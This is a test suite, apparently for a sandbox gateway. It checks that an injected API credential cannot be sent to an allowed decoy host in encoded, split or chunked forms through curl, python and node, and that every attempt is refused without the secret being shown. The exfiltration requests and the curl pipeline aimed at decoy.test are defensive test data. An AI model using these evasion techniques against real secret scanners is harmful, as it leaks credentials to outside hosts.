// Escape suite, exfiltration family (issue 9): the session's injected credential, bound to api.test,
// sent from inside a sealed sandbox to decoy.test, a host the session IS allowed to reach, so the
// only thing in the way is the gateway's secret scan, not the allowlist. In the path, the query, a
// custom header, a cookie and the body; raw, base64 at all three alignments, base64url, hex (both
// cases) and percent-encoded (every byte, and every other byte); with curl, python (urllib over
// TLS and a raw plain-HTTP request) and node. Then the secret split across chunks of a slowly sent
// chunked body. Each is refused naming the credential (never showing it), each block is on the
// session's record, and the decoy never receives the secret in any form.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Session } from '@airlock/contract/sessions';
import { encodedForms } from '@airlock/dlp/encodings';
import type { Piece } from './clients';
import {
  assertRefused,
  CREDENTIAL,
  curl,
  reachedDecoy,
  RUNTIMES,
  SECRET,
  startEscapeDeck,
  type Attempt,
  type EscapeDeck,
} from './escape-deck';

const RULE = `exfiltration:${CREDENTIAL}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Every byte as %XX, or (every = 2) every other byte, the rest left as it is. */
const pct = (s: string, every = 1) =>
  [...Buffer.from(s)]
    .map((b, i) =>
      i % every === 0 ? `%${b.toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(b),
    )
    .join('');

const ENCODED: Record<string, string> = {
  raw: SECRET,
  base64: b64(SECRET),
  // The other two alignments: the secret after one and two bytes of something else.
  'base64 (offset 1)': b64(`x${SECRET}`),
  'base64 (offset 2)': b64(`xy${SECRET}`),
  base64url: Buffer.from(SECRET).toString('base64url'),
  hex: Buffer.from(SECRET).toString('hex'),
  'hex (upper case)': Buffer.from(SECRET).toString('hex').toUpperCase(),
  'url-encoded': pct(SECRET),
  'url-encoded (every other byte)': pct(SECRET, 2),
};

/** Byte strings that would mean the secret arrived: every form the scanner knows, and the ones above. */
const TELLTALES = [
  ...new Set([
    ...encodedForms(SECRET).map((f) => f.bytes.toString('latin1')),
    SECRET,
    ENCODED.hex!,
    ENCODED['hex (upper case)']!,
    ENCODED['url-encoded']!,
    ENCODED['url-encoded (every other byte)']!,
  ]),
];

type Location = 'path' | 'query' | 'header' | 'cookie' | 'body';
const LOCATIONS: Location[] = ['path', 'query', 'header', 'cookie', 'body'];

/** One request carrying `v` at `where`, as each tool would send it. */
function attemptsFor(form: string, v: string, tag: string): Attempt[] {
  const blocks = [{ rule: RULE, host: 'decoy.test' }];
  const path = (where: Location) =>
    where === 'path' ? `/${tag}/${v}` : where === 'query' ? `/${tag}?k=${v}` : `/${tag}`;
  const headers = (where: Location): Record<string, string> =>
    where === 'header' ? { 'X-Note': v } : where === 'cookie' ? { Cookie: `a=${v}` } : {};
  const body = (where: Location) => (where === 'body' ? `{"k":"${v}"}` : undefined);
  return LOCATIONS.flatMap((where): Attempt[] => {
    const id = (tool: string) => `${tool}: ${form} in the ${where}`;
    const b = body(where);
    const h = headers(where);
    const rawHead = [
      `${b ? 'POST' : 'GET'} http://decoy.test${path(where)} HTTP/1.1`,
      'Host: decoy.test',
      ...Object.entries(h).map(([k, x]) => `${k}: ${x}`),
      ...(b ? ['Content-Type: application/json', `Content-Length: ${Buffer.byteLength(b)}`] : []),
    ].join('\r\n');
    return [
      {
        id: id('curl'),
        tool: 'curl',
        spec: curl(
          ...Object.entries(h).flatMap(([k, x]) => (k === 'Cookie' ? ['-b', x] : ['-H', `${k}: ${x}`])),
          ...(b ? ['-H', 'Content-Type: application/json', '--data-binary', b] : []),
          `https://decoy.test${path(where)}`,
        ),
        blocks,
      },
      {
        id: id('python urllib'),
        tool: 'python',
        spec: {
          kind: 'request',
          url: `https://decoy.test${path(where)}`,
          headers: { ...h, ...(b ? { 'Content-Type': 'application/json' } : {}) },
          ...(b ? { method: 'POST', body: b } : {}),
        },
        blocks,
      },
      {
        id: id('python plain HTTP'),
        tool: 'python',
        spec: { kind: 'proxy', send: `${rawHead}\r\n\r\n${b ?? ''}` },
        blocks,
      },
      {
        id: id('node'),
        tool: 'node',
        spec: {
          kind: 'request',
          url: `https://decoy.test${path(where)}`,
          headers: { ...h, ...(b ? { 'content-type': 'application/json' } : {}) },
          ...(b ? { method: 'POST', body: b } : {}),
        },
        blocks,
      },
    ];
  });
}

/** A header name may carry only token characters; the forms that are tokens are tried as one too. */
const TOKEN = /^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$/;

/** The request line and headers of a CONNECT, and a header name: places a proxy reads before any body. */
function headAttempts(form: string, v: string): Attempt[] {
  const blocks = [{ rule: RULE, host: 'decoy.test' }];
  const out: Attempt[] = [
    {
      id: `python: ${form} in a header of the CONNECT`,
      tool: 'python',
      spec: {
        kind: 'proxy',
        send: `CONNECT decoy.test:443 HTTP/1.1\r\nHost: decoy.test:443\r\nX-Note: ${v}\r\n\r\n`,
      },
      blocks,
    },
  ];
  if (TOKEN.test(v))
    out.push({
      id: `python: ${form} as a header name`,
      tool: 'python',
      spec: {
        kind: 'proxy',
        send: `GET http://decoy.test/exfil HTTP/1.1\r\nHost: decoy.test\r\n${v}: 1\r\n\r\n`,
      },
      blocks,
    });
  return out;
}

describe('escape: exfiltration of an injected credential', () => {
  let e: EscapeDeck;

  before(async () => {
    // The forms this test sends are distinct byte strings, or it would test fewer than it says.
    assert.equal(new Set(Object.values(ENCODED)).size, Object.keys(ENCODED).length);
    assert.notEqual(ENCODED.base64url, ENCODED.base64!.replace(/=+$/, ''));
    e = await startEscapeDeck({
      routes: () => [
        { host: 'api.test', credential: CREDENTIAL },
        { host: 'decoy.test', ports: [443, 80] },
      ],
    });
  });
  after(async () => {
    await e?.close();
  });

  const noSecretAtDecoy = () => {
    const all = e.decoy.everything().toString('latin1');
    const found = TELLTALES.filter((t) => all.includes(t));
    assert.deepEqual(found, [], 'the decoy never received the secret in any form');
  };

  for (const runtime of RUNTIMES) {
    describe(runtime, () => {
      let session: Session;
      before(() => {
        session = e.sessions[runtime][0]!;
      });

      it('has the credential live toward api.test, and the same requests with a harmless value reach the decoy', async () => {
        const seen = e.deck.upstream.seen.length;
        const live = await e.attack(session, [
          {
            id: 'curl https://api.test/',
            tool: 'curl',
            spec: { kind: 'cmd', argv: ['curl', '-sS', 'https://api.test/whoami'] },
          },
        ]);
        assert.match(live.get('curl https://api.test/')!.stdout ?? '', /auth=Bearer \[REDACTED:api-key\]/);
        assert.equal(e.deck.upstream.seen.at(-1)?.headers.authorization, `Bearer ${SECRET}`);
        assert.equal(e.deck.upstream.seen.length, seen + 1);

        // The very requests of the attacks below, with a value that is no secret: all get through,
        // so what stops the attacks is the scan.
        const mark = e.decoy.mark();
        const harmless = attemptsFor('harmless', 'just-a-note-0123456789', 'harmless').map((a) => ({
          ...a,
          blocks: [],
        }));
        const results = await e.attack(session, harmless);
        for (const a of harmless)
          assert.ok(reachedDecoy(results.get(a.id)!), `${a.id}: ${JSON.stringify(results.get(a.id))}`);
        assert.equal(e.decoy.since(mark).requests.length, harmless.length);
      });

      for (const [form, value] of Object.entries(ENCODED)) {
        it(`refuses the credential sent to an allowed host (${form}) in the path, query, a header, a cookie, the body and the CONNECT`, async () => {
          const mark = e.decoy.mark();
          const attempts = [...attemptsFor(form, value, 'exfil'), ...headAttempts(form, value)];
          const results = await e.attack(session, attempts);
          for (const a of attempts) {
            assertRefused(results, a.id, RULE);
            const shown = JSON.stringify(results.get(a.id));
            assert.ok(
              !TELLTALES.some((t) => shown.includes(t)),
              `${a.id}: the refusal shows the secret: ${shown}`,
            );
          }
          assert.deepEqual(e.decoy.since(mark).requests, [], 'no request reached the decoy whole');
          noSecretAtDecoy();
        });
      }

      it('refuses the credential split across chunks of a slowly sent chunked body; the decoy gets no complete secret', async () => {
        const mark = e.decoy.mark();
        const blocks = [{ rule: RULE, host: 'decoy.test' }];
        const split = (s: string, at: number[]): Piece[] => {
          const cuts = [0, ...at, s.length];
          return [
            { data: '{"pad":"', delayMs: 300 },
            ...cuts.slice(1).map((c, i) => ({ data: s.slice(cuts[i], c), delayMs: 300 })),
            { data: '"}' },
          ];
        };
        const rawPieces = split(SECRET, [13]);
        const b64Pieces = split(ENCODED.base64!, [21, 30]);
        const chunked = (pieces: Piece[]): Piece[] => [
          {
            data: 'POST /upload/raw-chunks HTTP/1.1\r\nHost: decoy.test\r\nTransfer-Encoding: chunked\r\n\r\n',
          },
          ...pieces.map((p) => ({
            data: `${Buffer.byteLength(p.data, 'latin1').toString(16)}\r\n${p.data}\r\n`,
            delayMs: 300,
          })),
          { data: '0\r\n\r\n' },
        ];
        const attempts: Attempt[] = [
          {
            id: 'python urllib: raw secret over two chunks',
            tool: 'python',
            spec: { kind: 'request', method: 'POST', url: 'https://decoy.test/upload/py', body: rawPieces },
            blocks,
          },
          {
            id: 'python urllib: base64 over three chunks',
            tool: 'python',
            spec: {
              kind: 'request',
              method: 'POST',
              url: 'https://decoy.test/upload/py-b64',
              body: b64Pieces,
            },
            blocks,
          },
          {
            id: 'python: hand-made chunked body in the tunnel',
            tool: 'python',
            spec: {
              kind: 'tunnel',
              authority: 'decoy.test:443',
              sni: 'decoy.test',
              requests: [{ send: chunked(rawPieces) }],
            },
            blocks,
          },
          {
            id: 'python: hand-made chunked body, plain HTTP',
            tool: 'python',
            spec: {
              kind: 'proxy',
              send: chunked(rawPieces).map((p, i) =>
                i === 0
                  ? {
                      ...p,
                      data: p.data.replace(
                        'POST /upload/raw-chunks',
                        'POST http://decoy.test/upload/plain-chunks',
                      ),
                    }
                  : p,
              ),
            },
            blocks,
          },
          {
            id: 'node: raw secret over two chunks',
            tool: 'node',
            spec: { kind: 'request', method: 'POST', url: 'https://decoy.test/upload/node', body: rawPieces },
            blocks,
          },
          {
            id: 'curl -T - from a pipe written in two pieces',
            tool: 'curl',
            spec: {
              kind: 'cmd',
              // The pieces are the script's arguments, never part of its text.
              argv: [
                'sh',
                '-c',
                '{ printf %s "$1"; sleep 0.3; printf %s "$2"; sleep 0.3; printf %s "$3"; sleep 0.3; printf %s "$4"; } | curl -sS --max-time 10 -D - -o /dev/null -X POST -T - https://decoy.test/upload/curl',
                'sh',
                ...rawPieces.map((p) => p.data),
              ],
            },
            blocks,
          },
        ];
        const early: Attempt = {
          id: 'python: chunked body to a server that answers before the body is in',
          tool: 'python',
          spec: {
            kind: 'tunnel',
            authority: 'decoy.test:443',
            sni: 'decoy.test',
            requests: [
              {
                send: chunked(rawPieces).map((p, i) =>
                  i === 0 ? { ...p, data: p.data.replace('/upload/raw-chunks', '/early/chunks') } : p,
                ),
              },
            ],
          },
          blocks,
        };
        const results = await e.attack(session, [...attempts, early]);
        for (const a of attempts) assertRefused(results, a.id, RULE);
        // Its answer had begun (the decoy's 200 is on its way), so the sandbox sees it cut short
        // rather than a 403; what matters is below: no secret arrives, and the block is reported.
        const cut = results.get(early.id)!;
        assert.ok(!cut.answers?.[0]?.body.includes('decoy-reached\n'), JSON.stringify(cut));
        // Whatever part of a body went on before the hit, no request arrived complete, and no form
        // of the secret is anywhere in what the decoy received.
        assert.deepEqual(e.decoy.since(mark).requests, [], 'no request reached the decoy whole');
        noSecretAtDecoy();
      });

      it('never shows the secret in a block report: not on the session, not in the audit log', async () => {
        const s = await e.deck.api<Session>('GET', `/api/sessions/${session.id}`);
        assert.ok(s.blockedCount >= LOCATIONS.length * 4 * Object.keys(ENCODED).length);
        const audit = await e.deck.api<{ items: unknown[] }>('GET', '/api/audit?limit=500');
        const text = JSON.stringify([s, audit.items]);
        assert.match(text, new RegExp(RULE));
        const found = TELLTALES.filter(
          (t) => text.includes(t) || text.includes(JSON.stringify(t).slice(1, -1)),
        );
        assert.deepEqual(found, [], 'no form of the secret in the reports');
      });
    });
  }
});
